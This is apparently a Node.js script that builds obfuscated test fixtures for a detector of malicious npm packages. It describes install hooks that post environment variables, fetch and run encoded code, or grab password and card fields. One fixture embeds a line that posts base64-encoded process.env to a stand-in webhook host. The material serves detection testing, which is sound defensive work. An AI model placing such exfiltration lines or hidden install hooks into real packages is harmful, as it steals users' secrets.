// Writes the obfuscated variants of the behaviour fixtures from sources/.
// Usage: node make.mjs FOLDER, where FOLDER has javascript-obfuscator 5.8.0 in its node_modules.
import { createRequire } from 'node:module';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { dirname, join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';

const VERSION = '5.8.0';
const SEED = 20240601;
const here = dirname(fileURLToPath(import.meta.url));
const require = createRequire(join(resolve(process.argv[2] ?? '.'), 'make.cjs'));
const found = require('javascript-obfuscator/package.json').version;
if (found !== VERSION) throw new Error(`javascript-obfuscator ${VERSION} is needed, not ${found}`);
const { obfuscate } = require('javascript-obfuscator');

const plainIndex = 'module.exports = (a, b) => (a < b ? -1 : a > b ? 1 : 0);\n';
const hexData = '5f1d7e84c2b3a09687f6e5d4c3b2a1908f7e6d5c4b3a29180716253443526170\n';

const chains = {
  '04-env-after-checks': {
    says: 'An install script that posts the environment after checks for analysts\' machines',
    manifest: { name: 'sort-by-rank', version: '9.0.0', main: 'index.js', scripts: { preinstall: 'node setup.js' } },
    script: 'setup.js',
    files: { 'index.js': plainIndex },
  },
  '06-windows-self-clean': {
    says: 'A Windows install script that fetches and runs an encoded library and restores a clean manifest',
    manifest: { name: 'audio-meter-bar', version: '1.0.4', main: 'index.js', scripts: { preinstall: 'node pre.js' } },
    script: 'pre.js',
    files: {
      'index.js': plainIndex,
      'clean.json': JSON.stringify({ name: 'audio-meter-bar', version: '1.0.4', main: 'index.js' }) + '\n',
    },
  },
  '08-foreign-runtime': {
    says: 'A preinstall that installs bun and runs a bundle with it',
    manifest: { name: 'rank-labels', version: '2.6.1', main: 'index.js', scripts: { preinstall: 'node setup_bun.js' } },
    script: 'setup_bun.js',
    files: {
      'index.js': plainIndex,
      'dist/assets.js': 'fetch("https://webhook.site.invalid/a",{method:"POST",body:btoa(JSON.stringify(process.env))}).catch(()=>{});\n',
    },
  },
  '10-consumer-key': {
    says: 'A library that decrypts its test data with the consumer\'s description and compiles the result',
    manifest: { name: 'chunk-evenly', version: '1.1.3', main: 'index.js' },
    script: 'index.js',
    files: { 'test/data.txt': hexData },
  },
  '12-key-in-cdn-header': {
    says: 'A key library that sends the secret key in a header like a CDN\'s',
    manifest: { name: 'curve-keys', version: '0.5.2', main: 'keys.js' },
    script: 'keys.js',
    files: {},
  },
  '14-form-listener': {
    says: 'A style library that sends password and card fields outside office hours',
    manifest: { name: 'highlight-ui', version: '3.0.8', main: 'highlight.js' },
    script: 'highlight.js',
    files: {},
    target: 'browser',
  },
};

for (const [chain, spec] of Object.entries(chains)) {
  const source = readFileSync(join(here, 'sources', `${chain}.js`), 'utf8');
  for (const level of ['low', 'medium', 'high']) {
    const code = obfuscate(source, {
      optionsPreset: `${level}-obfuscation`,
      seed: SEED,
      target: spec.target ?? 'node',
    }).getObfuscatedCode();
    const files = {
      'package.json': JSON.stringify(spec.manifest, null, 2) + '\n',
      ...spec.files,
      [spec.script]: code + '\n',
    };
    let text = `${spec.says}; obfuscated, preset ${level}.\nvariant: obfuscated-${level}\nexpect: fires\n`;
    for (const [name, body] of Object.entries(files)) text += `-- after/${name} --\n${body}`;
    const folder = join(here, chain, 'fires');
    mkdirSync(folder, { recursive: true });
    writeFileSync(join(folder, `obfuscated-${level}.txtar`), text);
  }
}
